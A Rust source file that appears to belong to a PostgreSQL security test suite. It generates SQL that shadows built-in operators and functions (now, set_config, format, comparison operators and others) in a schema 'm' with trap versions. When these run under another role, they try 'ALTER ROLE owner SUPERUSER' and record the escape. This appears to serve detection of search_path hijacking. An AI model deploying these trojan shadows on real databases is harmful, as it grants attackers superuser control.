//! Code of the owner's that tells whose rights it was run with.

/// Operators and functions that the owner has in his own schema under PostgreSQL's names: with the schema before
/// `pg_catalog` in the path they are taken for PostgreSQL's own. Each gives what the true one does.
const OPERATORS: [(&str, &str, &str); 28] = [
    ("=", "text", "text"),
    ("<>", "text", "text"),
    ("||", "text", "text"),
    ("||", "anyarray", "anyarray"),
    ("=", "integer", "integer"),
    ("<>", "integer", "integer"),
    ("<", "integer", "integer"),
    (">", "integer", "integer"),
    ("<=", "integer", "integer"),
    (">=", "integer", "integer"),
    ("+", "integer", "integer"),
    ("-", "integer", "integer"),
    ("=", "bigint", "bigint"),
    ("<", "bigint", "bigint"),
    (">", "bigint", "bigint"),
    ("<=", "bigint", "bigint"),
    (">=", "bigint", "bigint"),
    ("+", "bigint", "bigint"),
    ("-", "bigint", "bigint"),
    ("+", "bigint", "integer"),
    (">", "bigint", "integer"),
    ("=", "bigint", "integer"),
    ("=", "boolean", "boolean"),
    ("=", "oid", "oid"),
    ("=", "name", "text"),
    ("=", "name", "name"),
    ("+", "timestamptz", "interval"),
    (">", "timestamptz", "timestamptz"),
];

/// Name, arguments, result, and the true one's call.
const FUNCTIONS: [(&str, &str, &str, &str); 24] = [
    ("now", "", "timestamptz", "now()"),
    ("clock_timestamp", "", "timestamptz", "clock_timestamp()"),
    ("pg_sleep", "float8", "void", "pg_sleep($1)"),
    (
        "set_config",
        "text, text, boolean",
        "text",
        "set_config($1, $2, $3)",
    ),
    ("current_setting", "text", "text", "current_setting($1)"),
    ("format", "text, VARIADIC \"any\"", "text", ""),
    ("quote_ident", "text", "text", "quote_ident($1)"),
    ("quote_literal", "text", "text", "quote_literal($1)"),
    (
        "array_length",
        "anyarray, integer",
        "integer",
        "array_length($1, $2)",
    ),
    ("cardinality", "anyarray", "integer", "cardinality($1)"),
    (
        "array_to_string",
        "anyarray, text",
        "text",
        "array_to_string($1, $2)",
    ),
    ("pg_backend_pid", "", "integer", "pg_backend_pid()"),
    ("to_regclass", "text", "regclass", "to_regclass($1)"),
    ("concat", "VARIADIC \"any\"", "text", ""),
    ("left", "text, integer", "text", "left($1, $2)"),
    (
        "substr",
        "text, integer, integer",
        "text",
        "substr($1, $2, $3)",
    ),
    (
        "split_part",
        "text, text, integer",
        "text",
        "split_part($1, $2, $3)",
    ),
    ("chr", "integer", "text", "chr($1)"),
    ("jsonb_build_object", "VARIADIC \"any\"", "jsonb", ""),
    (
        "pg_relation_size",
        "regclass",
        "bigint",
        "pg_relation_size($1)",
    ),
    (
        "statement_timestamp",
        "",
        "timestamptz",
        "statement_timestamp()",
    ),
    ("isfinite", "interval", "boolean", "isfinite($1)"),
    ("phone_encrypt", "text, text", "text", ""),
    ("phone_hash", "text, text", "text", ""),
];

/// What `m.payload()` does unless an attack replaces it.
pub const PAYLOAD: &str = "CREATE OR REPLACE FUNCTION m.payload() RETURNS void LANGUAGE plpgsql AS 'BEGIN PERFORM m.trap(); END'";

/// The owner's functions: `m.trap()` tells whose rights it has and uses them; `m.attack…` are for the places that
/// take a function, and run `m.payload()`, which each attack replaces.
pub fn sql(owner: &str) -> String {
    let mut sql = format!(
        "CREATE FUNCTION m.trap() RETURNS void LANGUAGE plpgsql AS $$
         BEGIN
             PERFORM pg_catalog.nextval('traps.ran');
             IF current_user OPERATOR(pg_catalog.<>) '{owner}'::pg_catalog.name THEN
                 PERFORM pg_catalog.nextval('traps.escaped');
                 BEGIN EXECUTE 'ALTER ROLE {owner} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
             END IF;
         END $$;
         CREATE FUNCTION m.attack() RETURNS boolean LANGUAGE plpgsql AS
             'BEGIN PERFORM m.payload(); RETURN true; END';
         CREATE FUNCTION m.attack(text) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS
             'BEGIN PERFORM m.payload(); RETURN true; END';
         CREATE FUNCTION m.attack_row() RETURNS trigger LANGUAGE plpgsql AS
             'BEGIN PERFORM m.payload(); RETURN coalesce(NEW, OLD); END';"
    );
    for (number, (operator, left, right)) in OPERATORS.iter().enumerate() {
        let result = match *operator {
            "+" | "-" | "||" if left.starts_with("any") || right == &"integer" || left == right => {
                left
            }
            "+" => "timestamptz",
            _ => "boolean",
        };
        sql += &format!(
            "CREATE FUNCTION m.operator{number}({left}, {right}) RETURNS {result} LANGUAGE plpgsql AS
                 'BEGIN PERFORM m.trap(); RETURN $1 OPERATOR(pg_catalog.{operator}) $2; END';
             CREATE OPERATOR m.{operator} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = m.operator{number});"
        );
    }
    for (name, arguments, result, call) in FUNCTIONS {
        // One that takes "any" cannot be written in PL/pgSQL; taking text does for most of its callers.
        let arguments = arguments.replace("VARIADIC \"any\"", "VARIADIC text[]");
        let body = match (call, result) {
            ("", _) => format!("RETURN NULL::{result};"),
            (call, "void") => format!("PERFORM pg_catalog.{call};"),
            (call, _) => format!("RETURN pg_catalog.{call};"),
        };
        sql += &format!(
            "CREATE FUNCTION m.{name}({arguments}) RETURNS {result} LANGUAGE plpgsql AS
                 'BEGIN PERFORM m.trap(); {body} END';"
        );
    }
    sql
}
